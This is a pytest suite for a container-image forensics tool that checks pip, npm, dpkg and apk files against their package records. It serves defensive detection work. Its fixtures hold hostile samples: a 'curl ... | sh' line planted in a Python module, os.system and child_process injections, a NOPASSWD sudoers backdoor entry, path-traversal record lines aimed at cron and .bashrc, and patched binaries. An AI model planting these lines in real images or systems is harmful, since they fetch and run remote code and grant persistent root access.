"""Language package records (pip RECORD, egg, npm) and every package digest checked by default.

The pip and npm trees are made by the real tools in a temp dir (pip installs a wheel
offline, npm a packed tarball) and packed into image layers here.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from hostile import Layer, M, Oci, tar_bytes

from forensics.packages import parse_package_dbs
from forensics.packages.langdb import capture_name, lang_db_kind
from forensics.pipeline import analyze

SITE = "usr/local/lib/python3.11/site-packages"
BASE = [
    M("etc/", type="dir"),
    M("etc/os-release", b"ID=debian\n"),
    M("usr/", type="dir"),
    M("usr/local/", type="dir"),
    M("usr/local/bin/", type="dir"),
    M("usr/local/lib/", type="dir"),
]
ADD_ROOT = {"created_by": "/bin/sh -c #(nop) ADD file:aa in / "}


def build(tmp_path: Path, layers: list[list[M]], history: list[dict], name="img.tar") -> Path:
    def mutate(cfg):
        cfg["history"] = history

    p = tmp_path / name
    p.write_bytes(Oci(layers=[Layer.of(tar_bytes(m)) for m in layers], mutate_config=mutate).tar())
    return p


def tree_members(root: Path, under: str, edit: dict[str, bytes] | None = None) -> list[M]:
    """Members for every entry below `root`, placed at `under` in the image."""
    edit = edit or {}
    out = []
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames.sort()
        rel = os.path.relpath(dirpath, root)
        base = under if rel == "." else f"{under}/{rel}"
        out.append(M(base + "/", type="dir"))
        for n in sorted(filenames) + sorted(d for d in dirnames if os.path.islink(os.path.join(dirpath, d))):
            full = os.path.join(dirpath, n)
            name = f"{base}/{n}"
            if os.path.islink(full):
                out.append(M(name, type="symlink", link=os.readlink(full)))
            else:
                data = edit.get(name, Path(full).read_bytes())
                out.append(M(name, data, mode=os.stat(full).st_mode & 0o7777))
    return out


def _b64(data: bytes) -> str:
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


@pytest.fixture(scope="module")
def pip_prefix(tmp_path_factory) -> Path:
    """`pip install --prefix P tinypkg.whl`: pip writes RECORD itself, a console script in P/bin."""
    d = tmp_path_factory.mktemp("whl")
    files = {
        "tinypkg/__init__.py": b"def main():\n    print('tiny')\n",
        "tinypkg/util.py": b"TIMEOUT = 10\n",
        "tinypkg-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: tinypkg\nVersion: 1.0\n",
        "tinypkg-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        "tinypkg-1.0.dist-info/entry_points.txt": b"[console_scripts]\ntiny = tinypkg:main\n",
    }
    record = "".join(f"{p},{_b64(b)},{len(b)}\n" for p, b in files.items()) + "tinypkg-1.0.dist-info/RECORD,,\n"
    whl = d / "tinypkg-1.0-py3-none-any.whl"
    with zipfile.ZipFile(whl, "w") as z:
        for p, b in files.items():
            z.writestr(p, b)
        z.writestr("tinypkg-1.0.dist-info/RECORD", record)
    prefix = d / "prefix"
    cp = subprocess.run(
        [
            sys.executable,
            "-m",
            "pip",
            "install",
            "-q",
            "--no-index",
            "--no-deps",
            "--no-compile",
            "--no-warn-script-location",
            "--prefix",
            str(prefix),
            str(whl),
        ],
        capture_output=True,
    )
    if cp.returncode != 0:
        pytest.skip(f"pip cannot install a local wheel here: {cp.stderr.decode()[-200:]}")
    site = prefix / "lib" / "python3.11" / "site-packages"
    if not site.is_dir():  # another interpreter version: normalize the layout the test packs
        (prefix / "lib" / "python3.11").mkdir(parents=True)
        next((prefix / "lib").glob("python3*/site-packages")).rename(site)
    return prefix


def pip_layer(prefix: Path, edit: dict[str, bytes] | None = None) -> list[M]:
    return (
        [M("usr/", type="dir"), M("usr/local/", type="dir")]
        + tree_members(prefix / "bin", "usr/local/bin", edit)
        + tree_members(prefix / "lib", "usr/local/lib", edit)
    )


PIP_STEP = {
    "created_by": "RUN /bin/sh -c pip install --no-cache-dir tinypkg # buildkit",
    "comment": "buildkit.dockerfile.v0",
}


def pkg_findings(r):
    return [f for f in r.findings if f.code == "history.package-file-modified"]


def medium_plus(r):
    return [
        f"{f.severity.value} {f.code} {f.detail}"
        for f in r.findings
        if f.severity.value in ("medium", "high", "critical")
    ]


def test_record_shapes_and_capture_test():
    assert lang_db_kind(f"/{SITE}/tinypkg-1.0.dist-info/RECORD") == "record"
    assert lang_db_kind(f"/{SITE}/x.egg-info/installed-files.txt") == "egg"
    assert lang_db_kind("/app/node_modules/@scope/pkg/package.json") == "npm"
    assert lang_db_kind("/app/node_modules/pkg/lib/package.json") is None  # inside a package, not its root
    assert lang_db_kind(f"/{SITE}/tinypkg/RECORD") is None
    assert capture_name(f"./{SITE}/tinypkg-1.0.dist-info/RECORD", 100)
    assert not capture_name(f"./{SITE}/tinypkg-1.0.dist-info/RECORD", 64 << 20)  # bounded
    assert not capture_name("./usr/bin/package.json", 10)


def test_real_pip_record_resolves_scripts_and_refuses_paths_outside_the_prefix(pip_prefix):
    record = (pip_prefix / "lib/python3.11/site-packages/tinypkg-1.0.dist-info/RECORD").read_bytes()
    assert b"../../../bin/tiny," in record  # pip's own line for the console script
    hostile = record + b'../../../../../etc/cron.d/evil,sha256=AAAA,4\n"broken,\n,,\n'
    [db] = parse_package_dbs({f"/{SITE}/tinypkg-1.0.dist-info/RECORD": hostile})
    [pkg] = db.packages
    files = {f.path: f for f in pkg.files}
    assert (pkg.manager, pkg.name, pkg.version) == ("pip", "tinypkg", "1.0")
    script = files["/usr/local/bin/tiny"]
    assert (
        script.algo == "sha256" and script.digest == hashlib.sha256((pip_prefix / "bin/tiny").read_bytes()).hexdigest()
    )
    assert files[f"/{SITE}/tinypkg-1.0.dist-info/RECORD"].digest is None
    assert "/etc/cron.d/evil" not in files and any("outside the install prefix" in e for e in db.errors)


def test_egg_installed_files_is_ownership_only():
    egg = f"/{SITE}/oldpkg-0.9-py3.11.egg-info"
    data = b"../oldpkg/__init__.py\n../oldpkg/core.py\nPKG-INFO\n../../../../bin/oldtool\n../../../../../root/.bashrc\n"
    [db] = parse_package_dbs({f"{egg}/installed-files.txt": data})
    [pkg] = db.packages
    paths = {f.path for f in pkg.files}
    assert {f"/{SITE}/oldpkg/core.py", f"{egg}/PKG-INFO", "/usr/local/bin/oldtool"} <= paths
    assert "/root/.bashrc" not in paths and all(f.digest is None for f in pkg.files)


def test_clean_pip_install_is_verified_against_its_same_step_record(tmp_path, pip_prefix):
    r = analyze(str(build(tmp_path, [BASE, pip_layer(pip_prefix)], [ADD_ROOT, PIP_STEP])))
    assert not medium_plus(r)
    cov = r.images[0].package_coverage
    hashed = [
        ln
        for ln in (pip_prefix / "lib/python3.11/site-packages/tinypkg-1.0.dist-info/RECORD").read_text().splitlines()
        if ",sha256=" in ln
    ]
    assert cov.verified_same_step_record.files == len(hashed) and cov.mismatched.files == 0
    assert cov.verified_against_earlier_record.files == 0 and cov.packages == {"pip": 1}
    step = {c.path: c.explained_by for c in r.images[0].history[1].analysis.explained}
    assert step[f"/{SITE}/tinypkg/util.py"] == "file of a package installed by this step"
    assert step["/usr/local/bin/tiny"] == "file of a package installed by this step"


def test_py_file_edited_in_the_install_step_is_high_with_the_same_step_label(tmp_path, pip_prefix):
    evil = b"TIMEOUT = 10\nimport os; os.system('curl -s http://203.0.113.9/x | sh')\n"
    layer = pip_layer(pip_prefix, {f"{SITE}/tinypkg/util.py": evil})
    r = analyze(str(build(tmp_path, [BASE, layer], [ADD_ROOT, PIP_STEP])))
    [f] = pkg_findings(r)
    assert f.path == f"/{SITE}/tinypkg/util.py" and f.severity.value == "high" and (f.layer, f.history) == (1, 1)
    assert f.evidence["manager"] == "pip" and f.evidence["actual"] == hashlib.sha256(evil).hexdigest()
    assert f.evidence["record"] == "same-step" and f.evidence["same_step_record"] is True
    assert "same step" in f.detail and "could have written both" in f.detail
    cov = r.images[0].package_coverage
    assert (cov.mismatched.files, cov.mismatched.bytes) == (1, len(evil))


def test_console_script_edited_in_the_install_step_is_critical(tmp_path, pip_prefix):
    script = (pip_prefix / "bin/tiny").read_bytes().replace(b"import sys", b"import sys, os; os.system('id')")
    r = analyze(
        str(build(tmp_path, [BASE, pip_layer(pip_prefix, {"usr/local/bin/tiny": script})], [ADD_ROOT, PIP_STEP]))
    )
    [f] = pkg_findings(r)
    assert f.path == "/usr/local/bin/tiny" and f.severity.value == "critical"


@pytest.mark.parametrize(
    "command, severity",
    [
        ("/bin/sh -c echo configured > /etc/motd", "high"),  # says nothing about util.py
        (f"/bin/sh -c sed -i 's/10/30/' /{SITE}/tinypkg/util.py", "low"),  # says exactly that
    ],
)
def test_pip_file_edited_in_a_later_step(tmp_path, pip_prefix, command, severity):
    later = [
        M("usr/", type="dir"),
        M("usr/local/", type="dir"),
        M("usr/local/lib/", type="dir"),
        M("usr/local/lib/python3.11/", type="dir"),
        M(f"{SITE}/", type="dir"),
        M(f"{SITE}/tinypkg/", type="dir"),
        M(f"{SITE}/tinypkg/util.py", b"TIMEOUT = 30\n"),
        M("etc/", type="dir"),
        M("etc/motd", b"configured\n"),
    ]
    r = analyze(
        str(build(tmp_path, [BASE, pip_layer(pip_prefix), later], [ADD_ROOT, PIP_STEP, {"created_by": command}]))
    )
    [f] = pkg_findings(r)
    assert (f.layer, f.severity.value, f.evidence["record"]) == (2, severity, "earlier-layer")
    assert f.evidence["same_step_record"] is False


def test_later_rewrites_are_dated_by_their_bytes(tmp_path, pip_prefix):
    util = f"{SITE}/tinypkg/util.py"
    same = (pip_prefix / "lib/python3.11/site-packages/tinypkg/util.py").read_bytes()
    dirs = [
        M("usr/", type="dir"),
        M("usr/local/", type="dir"),
        M("usr/local/lib/", type="dir"),
        M("usr/local/lib/python3.11/", type="dir"),
        M(f"{SITE}/", type="dir"),
        M(f"{SITE}/tinypkg/", type="dir"),
    ]
    # A chmod rewrites the entry, not the bytes: they still date from the install step.
    history = [ADD_ROOT, PIP_STEP, {"created_by": f"/bin/sh -c chmod 600 /{util}"}]
    r = analyze(str(build(tmp_path, [BASE, pip_layer(pip_prefix), dirs + [M(util, same, mode=0o600)]], history)))
    cov = r.images[0].package_coverage
    assert not pkg_findings(r) and cov.verified_against_earlier_record.files == 0
    assert cov.mismatched.files == 0 and cov.verified_same_step_record.files >= 8
    # A file the record lists but the install layer lacked, written later with the recorded bytes:
    # checked against a record that another step wrote before it.
    install = [m for m in pip_layer(pip_prefix) if m.name != util]
    history = [ADD_ROOT, PIP_STEP, {"created_by": f"/bin/sh -c #(nop) COPY file:bb in /{util} "}]
    r = analyze(str(build(tmp_path, [BASE, install, dirs + [M(util, same)]], history, name="b.tar")))
    cov = r.images[0].package_coverage
    assert not pkg_findings(r)
    assert (cov.verified_against_earlier_record.files, cov.verified_against_earlier_record.bytes) == (1, len(same))
    # The same COPY with other bytes: the COPY accounts for new content, so low, against the earlier record.
    r = analyze(str(build(tmp_path, [BASE, install, dirs + [M(util, b"TIMEOUT = 99\n")]], history, name="c.tar")))
    [f] = pkg_findings(r)
    assert (f.severity.value, f.evidence["record"], f.evidence["accounted"]) == ("low", "earlier-layer", True)


@pytest.fixture(scope="module")
def npm_app(tmp_path_factory) -> Path:
    if shutil.which("npm") is None:
        pytest.skip("npm not installed")
    d = tmp_path_factory.mktemp("npm")
    src, app = d / "src", d / "app"
    src.mkdir()
    app.mkdir()
    (src / "package.json").write_text(
        '{"name":"tiny-pad","version":"1.0.0","main":"index.js","bin":{"tiny-pad":"cli.js"}}\n'
    )
    (src / "index.js").write_text('module.exports = s => " " + s;\n')
    (src / "cli.js").write_text('#!/usr/bin/env node\nconsole.log(require("./")("x"))\n')
    (app / "package.json").write_text("{}\n")
    env = dict(os.environ, npm_config_cache=str(d / "cache"), npm_config_update_notifier="false")
    for cmd, cwd in (
        (["npm", "pack", "--silent"], src),
        (["npm", "install", "--offline", "--no-audit", "--no-fund", "../src/tiny-pad-1.0.0.tgz"], app),
    ):
        cp = subprocess.run(cmd, cwd=cwd, env=env, capture_output=True, timeout=120)
        if cp.returncode != 0:
            pytest.skip(f"npm failed offline: {cp.stderr.decode()[-200:]}")
    return app


def test_npm_package_json_owns_its_directory_without_digests(tmp_path, npm_app):
    members = [M("app/", type="dir")] + tree_members(npm_app / "node_modules", "app/node_modules")
    members.append(M("app/node_modules/loose.js", b"require('child_process').exec('id')\n"))  # no package owns it
    history = [
        ADD_ROOT,
        {"created_by": "/bin/sh -c #(nop) WORKDIR /app"},
        {"created_by": "/bin/sh -c npm install --no-audit ../src/tiny-pad-1.0.0.tgz"},
    ]
    history[1]["empty_layer"] = True
    r = analyze(str(build(tmp_path, [BASE, members], history)))
    step = {c.path: c.explained_by for c in r.images[0].history[2].analysis.explained}
    assert step["/app/node_modules/tiny-pad/index.js"] == "file of a package installed by this step"
    assert step["/app/node_modules/.bin/tiny-pad"] == "file of a package installed by this step"  # its bin link
    assert step["/app/node_modules/loose.js"] != "file of a package installed by this step"
    cov = r.images[0].package_coverage
    [(reason, count)] = cov.unverifiable.items()
    assert "npm keeps no per-file digests" in reason and count.files == 3  # package.json, index.js, cli.js
    assert cov.packages == {"npm": 1} and not pkg_findings(r)


def _dpkg(status_extra: bytes = b"", conffile_md5: str = "") -> list[M]:
    sudoers = b"root ALL=(ALL:ALL) ALL\n"
    tool = b"\x7fELF\x02\x01\x01" + bytes(64)
    status = (
        b"Package: sudo\nStatus: install ok installed\nVersion: 1.9.13\nArchitecture: amd64\n"
        b"Conffiles:\n /etc/sudoers "
        + (conffile_md5 or hashlib.md5(sudoers).hexdigest()).encode()
        + b"\n /etc/sudo.conf "
        + hashlib.md5(b"Set disable_coredump true\n").hexdigest().encode()
        + b"\n\n"
    )
    return [
        M("var/", type="dir"),
        M("var/lib/", type="dir"),
        M("var/lib/dpkg/", type="dir"),
        M("var/lib/dpkg/status", status + status_extra),
        M("var/lib/dpkg/info/", type="dir"),
        M("var/lib/dpkg/info/sudo.list", b"/etc/sudoers\n/etc/sudo.conf\n/usr/bin/sudo\n"),
        M("var/lib/dpkg/info/sudo.conffiles", b"/etc/sudoers\n/etc/sudo.conf\n"),
        M("var/lib/dpkg/info/sudo.md5sums", f"{hashlib.md5(tool).hexdigest()}  usr/bin/sudo\n".encode()),
        M("usr/", type="dir"),
        M("usr/bin/", type="dir"),
        M("usr/bin/sudo", tool, mode=0o4755),
    ]


BUILDAH_SQUASHED = [  # buildah --layers=false: earlier steps recorded empty, their changes in the last layer
    {"created_by": "/bin/sh -c apt-get update && apt-get install -y sudo", "empty_layer": True},
    {"created_by": "/bin/sh -c echo ready > /etc/motd"},
]


@pytest.mark.parametrize(
    "sudoers, conf, want",
    [
        (b"root ALL=(ALL:ALL) ALL\n", b"Set disable_coredump true\n", {}),
        (
            b"root ALL=(ALL:ALL) ALL\nnobody ALL=(ALL) NOPASSWD: ALL\n",
            b"Set disable_coredump true\n",
            {"/etc/sudoers": "high"},
        ),  # a persistence point: no maintainer-script excuse
        (b"root ALL=(ALL:ALL) ALL\n", b"Set disable_coredump false\n", {"/etc/sudo.conf": "medium"}),
    ],
)
def test_dpkg_conffile_edited_in_a_squashed_install_layer(tmp_path, sudoers, conf, want):
    layer = _dpkg() + [
        M("etc/", type="dir"),
        M("etc/sudoers", sudoers, mode=0o440),
        M("etc/sudo.conf", conf),
        M("etc/motd", b"ready\n"),
    ]
    r = analyze(str(build(tmp_path, [BASE, layer], [ADD_ROOT] + BUILDAH_SQUASHED)))
    assert not [f for f in r.findings if f.code.startswith("history.") and "count" in f.code]
    got = {f.path: f.severity.value for f in pkg_findings(r)}
    assert got == want
    if not want:
        assert not medium_plus(r)
    for f in pkg_findings(r):
        assert f.evidence["conffile"] and f.evidence["record"] == "same-step" and f.evidence["algo"] == "md5"
    assert r.images[0].package_coverage.mismatched.files == len(want)


def test_dpkg_conffile_edited_by_a_later_sed_is_low(tmp_path):
    later = [M("etc/", type="dir"), M("etc/sudo.conf", b"Set disable_coredump false\n")]
    history = [ADD_ROOT, {"created_by": "/bin/sh -c sed -i 's/true/false/' /etc/sudo.conf"}]
    r = analyze(
        str(
            build(
                tmp_path,
                [
                    BASE
                    + _dpkg()
                    + [
                        M("etc/sudoers", b"root ALL=(ALL:ALL) ALL\n"),
                        M("etc/sudo.conf", b"Set disable_coredump true\n"),
                    ],
                    later,
                ],
                history,
            )
        )
    )
    [f] = pkg_findings(r)
    assert (f.path, f.severity.value, f.evidence["record"]) == ("/etc/sudo.conf", "low", "earlier-layer")


def test_status_rewritten_by_a_later_install_does_not_redate_other_records(tmp_path):
    """dpkg's status is rewritten by every install; sudo's record still dates from layer 0."""
    base = (
        BASE
        + _dpkg()
        + [M("etc/sudoers", b"root ALL=(ALL:ALL) ALL\n"), M("etc/sudo.conf", b"Set disable_coredump true\n")]
    )
    extra = b"Package: less\nStatus: install ok installed\nVersion: 590\nArchitecture: amd64\n\n"
    later = [
        M("var/", type="dir"),
        M("var/lib/", type="dir"),
        M("var/lib/dpkg/", type="dir"),
        M("var/lib/dpkg/status", _dpkg(extra)[3].data),
        M("etc/", type="dir"),
        M("etc/sudoers", b"root ALL=(ALL:ALL) ALL\nnobody ALL=(ALL) NOPASSWD: ALL\n"),
    ]
    history = [ADD_ROOT, {"created_by": "/bin/sh -c apt-get install -y less"}]
    r = analyze(str(build(tmp_path, [base, later], history)))
    [f] = pkg_findings(r)
    assert (f.path, f.layer, f.severity.value) == ("/etc/sudoers", 1, "high")
    assert f.evidence["record_layer"] == 0 and f.evidence["record"] == "earlier-layer"
    cov = r.images[0].package_coverage
    assert cov.verified_same_step_record.files == 2  # /usr/bin/sudo and /etc/sudo.conf, from layer 0


def test_record_digests_taken_in_the_pass_and_what_stdin_cannot_read_again(tmp_path, pip_prefix):
    """md5 is taken in the pass for /etc, /bin and whatever follows a dpkg path in the layer;
    a file met earlier needs the second read, which stdin cannot give."""
    dpkg = _dpkg()
    sudo = [m for m in dpkg if m.name.startswith("usr/")]  # /usr/bin/sudo before /var/lib/dpkg in the tar
    layer = (
        BASE
        + sudo
        + [m for m in dpkg if not m.name.startswith("usr/")]
        + [M("etc/sudoers", b"root ALL=(ALL:ALL) ALL\n"), M("etc/sudo.conf", b"Set disable_coredump true\n")]
    )
    p = build(tmp_path, [layer, pip_layer(pip_prefix)], [ADD_ROOT, PIP_STEP])
    cp = subprocess.run(
        [sys.executable, "-m", "forensics", "scan", "-", "--json", "-", "-q"], input=p.read_bytes(), capture_output=True
    )
    cov = json.loads(cp.stdout)["images"][0]["package_coverage"]
    assert cov["unverifiable"]["md5/sha1 record not checked: stdin cannot be read a second time"]["files"] == 1
    # the two conffiles (md5 in the pass) and pip's sha256 records need no second read
    assert cov["verified_same_step_record"]["files"] >= 10 and cov["mismatched"]["files"] == 0
    cov = analyze(str(p)).images[0].package_coverage  # a file: /usr/bin/sudo is read again
    assert list(cov.unverifiable) == ["owned, no digest (egg installed-files.txt, or a RECORD line without a hash)"]
    assert cov.unverifiable[next(iter(cov.unverifiable))].files == 1  # the RECORD itself
    assert cov.verified_same_step_record.files >= 11 and cov.mismatched.files == 0


def test_hostile_records_never_raise(tmp_path):
    import random

    rng = random.Random(8)
    seeds = [
        b"a.py,sha256=" + b"A" * 43 + b',3\n../../../bin/x,sha512=zz,1\n"q,""\n',
        b'{"name": "x", "bin": {"a": "b", "../../etc": 1}, "version": [1]}',
        b"../a\n\x00\n" + b"../" * 500,
        b"[" * 100000,
        b'"\x00,\n' * 1000,
    ]
    paths = [
        f"/{SITE}/x-1.dist-info/RECORD",
        "/app/node_modules/x/package.json",
        f"/{SITE}/x.egg-info/installed-files.txt",
    ]
    for _ in range(300):
        data = bytearray(rng.choice(seeds))
        for _ in range(rng.randrange(4)):
            if data:
                data[rng.randrange(len(data))] = rng.randrange(256)
        for path in paths:
            for db in parse_package_dbs({path: bytes(data)}):
                for pkg in db.packages:
                    assert all(f.path.startswith("/") for f in pkg.files)
    # and through the whole pipeline: a finding or nothing, never a traceback
    layer = [
        M("app/", type="dir"),
        M("app/node_modules/", type="dir"),
        M("app/node_modules/x/", type="dir"),
        M("app/node_modules/x/package.json", b"[" * 100000),
        M("usr/", type="dir"),
        M(f"{SITE}/x-1.dist-info/RECORD", b"\x00\xff,sha256=!!!,\n" * 50),
    ]
    cp = subprocess.run(
        [
            sys.executable,
            "-m",
            "forensics",
            "scan",
            str(build(tmp_path, [BASE, layer], [ADD_ROOT, {"created_by": "/bin/sh -c npm ci"}])),
            "-q",
            "--json",
            "-",
        ],
        capture_output=True,
    )
    assert cp.returncode in (0, 1) and b"Traceback" not in cp.stderr
    assert json.loads(cp.stdout)["images"][0]["package_coverage"] is not None


def test_a_record_written_by_an_apt_step_does_not_explain_what_it_lists(tmp_path):
    evil = b"import os; os.system('id')\n"
    record = f"evil.py,{_b64(evil)},{len(evil)}\nevil-1.dist-info/RECORD,,\n".encode()
    layer = _dpkg() + [
        M("etc/", type="dir"),
        M("etc/sudoers", b"root ALL=(ALL:ALL) ALL\n"),
        M("etc/sudo.conf", b"Set disable_coredump true\n"),
        M("usr/local/lib/python3.11/", type="dir"),
        M(f"{SITE}/", type="dir"),
        M(f"{SITE}/evil.py", evil),
        M(f"{SITE}/evil-1.dist-info/", type="dir"),
        M(f"{SITE}/evil-1.dist-info/RECORD", record),
    ]
    r = analyze(str(build(tmp_path, [BASE, layer], [ADD_ROOT, {"created_by": "/bin/sh -c apt-get install -y sudo"}])))
    step = r.images[0].history[1].analysis
    assert f"/{SITE}/evil.py" in {c.path for c in step.unexplained}
    assert "/usr/bin/sudo" in {c.path for c in step.explained}  # dpkg's own files still are


def test_a_record_shipped_by_a_distribution_package_is_left_to_that_package(tmp_path):
    """Debian's python3-* packages ship dist-info directories; dpkg's md5sums are their record."""
    mod = b"VERSION = '1'\n"
    dist = "usr/lib/python3/dist-packages"
    record = f"six.py,sha256={'A' * 43},{len(mod)}\nsix-1.16.dist-info/RECORD,,\n".encode()  # stale hash
    status = b"Package: python3-six\nStatus: install ok installed\nVersion: 1.16\nArchitecture: all\n\n"
    layer = [
        M("usr/", type="dir"),
        M("usr/lib/", type="dir"),
        M("usr/lib/python3/", type="dir"),
        M(f"{dist}/", type="dir"),
        M(f"{dist}/six.py", mod),
        M(f"{dist}/six-1.16.dist-info/", type="dir"),
        M(f"{dist}/six-1.16.dist-info/RECORD", record),
        M("var/", type="dir"),
        M("var/lib/", type="dir"),
        M("var/lib/dpkg/", type="dir"),
        M("var/lib/dpkg/status", status),
        M("var/lib/dpkg/info/", type="dir"),
        M("var/lib/dpkg/info/python3-six.list", f"/{dist}/six.py\n/{dist}/six-1.16.dist-info/RECORD\n".encode()),
        M(
            "var/lib/dpkg/info/python3-six.md5sums",
            f"{hashlib.md5(mod).hexdigest()}  {dist}/six.py\n{hashlib.md5(record).hexdigest()}  "
            f"{dist}/six-1.16.dist-info/RECORD\n".encode(),
        ),
    ]
    r = analyze(
        str(build(tmp_path, [BASE, layer], [ADD_ROOT, {"created_by": "/bin/sh -c apt-get install -y python3-six"}]))
    )
    assert not pkg_findings(r) and not medium_plus(r)
    assert r.images[0].package_coverage.verified_same_step_record.files == 2  # by dpkg's md5sums


def _apk_z(data: bytes) -> str:  # apk v3 (f:S): Q1 + base64 of the first 160 bits of sha256
    return "Q1" + base64.b64encode(hashlib.sha256(data).digest()[:20]).decode()


def test_apk_script_edits_of_etc_are_low_but_a_patched_binary_is_critical(tmp_path):
    passwd = b"root:x:0:0:root:/root:/bin/sh\n"
    shells = b"/bin/sh\n"
    busybox = b"\x7fELF\x02\x01\x01" + bytes(100)
    base_db = (
        f"P:alpine-baselayout-data\nV:3.4\nf:S\nF:etc\nR:passwd\nZ:{_apk_z(passwd)}\nR:shells\nZ:{_apk_z(shells)}\n\n"
        f"P:busybox\nV:1.36\nf:S\nF:bin\nR:busybox\nZ:{_apk_z(busybox)}\n\n"
    ).encode()
    dbdirs = [M("lib/", type="dir"), M("lib/apk/", type="dir"), M("lib/apk/db/", type="dir")]
    base = (
        [
            M("etc/", type="dir"),
            M("etc/passwd", passwd),
            M("etc/shells", shells),
            M("bin/", type="dir"),
            M("bin/busybox", busybox, mode=0o755),
        ]
        + dbdirs
        + [M("lib/apk/db/installed", base_db)]
    )
    nginx = b"\x7fELF\x02\x01\x01" + bytes(200)
    db2 = base_db + f"P:nginx\nV:1.24\nf:S\nF:usr/sbin\nR:nginx\nZ:{_apk_z(nginx)}\n\n".encode()
    install = (
        [
            M("etc/", type="dir"),
            M("etc/passwd", passwd + b"nginx:x:100:101:nginx:/var/lib/nginx:/sbin/nologin\n"),
            M("usr/", type="dir"),
            M("usr/sbin/", type="dir"),
            M("usr/sbin/nginx", nginx, mode=0o755),
            M("bin/", type="dir"),
            M("bin/busybox", busybox + b"\x90", mode=0o755),
        ]
        + dbdirs
        + [M("lib/apk/db/installed", db2)]
    )
    r = analyze(
        str(build(tmp_path, [base, install], [ADD_ROOT, {"created_by": "/bin/sh -c apk add --no-cache nginx"}]))
    )
    got = {f.path: f.severity.value for f in pkg_findings(r)}
    assert got == {"/etc/passwd": "low", "/bin/busybox": "critical"}
    cov = r.images[0].package_coverage
    assert cov.verified_same_step_record.files == 2 and cov.verified_against_earlier_record.files == 0  # shells, nginx
    assert cov.mismatched.files == 2 and cov.packages == {"apk": 3}


def test_apk_v2_symlink_records_are_not_compared_with_their_target(tmp_path):
    """apk-tools v2: Z: is sha1 of a file, and of the target string for a symlink (busybox applets)."""
    busybox = b"\x7fELF\x02\x01\x01" + bytes(300)

    def z(data: bytes) -> str:
        return "Q1" + base64.b64encode(hashlib.sha1(data).digest()).decode()

    db = f"P:busybox\nV:1.36\nF:bin\nR:busybox\nZ:{z(busybox)}\nR:ls\nZ:{z(b'/bin/busybox')}\n\n".encode()
    layer = [
        M("bin/", type="dir"),
        M("bin/busybox", busybox, mode=0o755),
        M("bin/ls", type="symlink", link="/bin/busybox"),
        M("lib/", type="dir"),
        M("lib/apk/", type="dir"),
        M("lib/apk/db/", type="dir"),
        M("lib/apk/db/installed", db),
    ]
    r = analyze(str(build(tmp_path, [layer], [ADD_ROOT])))
    assert not pkg_findings(r) and not medium_plus(r)
    assert r.images[0].package_coverage.verified_same_step_record.files == 1  # busybox, sha1 taken in the pass
    layer[1] = M("bin/busybox", busybox + b"\xcc", mode=0o755)
    [f] = pkg_findings(analyze(str(build(tmp_path, [layer], [ADD_ROOT], name="b.tar"))))
    assert (f.path, f.severity.value, f.evidence["algo"]) == ("/bin/busybox", "critical", "sha1")
